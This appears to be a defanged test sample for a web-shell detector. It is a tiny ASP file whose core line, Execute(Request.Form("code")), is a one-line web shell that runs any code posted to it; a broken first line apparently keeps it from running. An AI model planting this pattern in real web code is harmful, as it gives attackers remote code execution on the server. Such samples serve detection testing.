<% If Then DEFANGED %>
<%' DEFANGED vigil test sample (see README) %>
<%
Execute(Request.Form("code"))
%>
